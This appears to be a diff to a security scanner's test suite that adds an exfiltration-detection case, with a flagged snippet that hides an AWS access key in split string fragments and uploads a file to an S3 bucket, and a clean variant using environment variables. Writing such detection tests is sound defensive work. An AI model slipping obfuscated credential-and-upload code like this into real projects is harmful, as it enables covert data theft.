@@ -200,4 +200,12 @@ describeRuleCases('exfiltration', [
     negative:
       'var files = []string{".aws/credentials", ".npmrc"}\naddrs, _ := net.LookupHost("registry.npmjs.org")\nfmt.Println(addrs)\n',
   },
+  {
+    id: 'SG-EXFIL-016',
+    file: 'scripts/drop.py',
+    positive:
+      '_K = ("AKIA", "IOSFODNN", "7QWERTY")\ns3 = boto3.client("s3", aws_access_key_id="".join(_K), aws_secret_access_key=SECRET)\ns3.upload_file(str(p), BUCKET, key)\n',
+    negative:
+      's3 = boto3.client("s3", aws_access_key_id=os.environ["AWS_ACCESS_KEY_ID"])\ns3.upload_file(str(p), os.environ["BUCKET"], key)\n',
+  },
 ]);
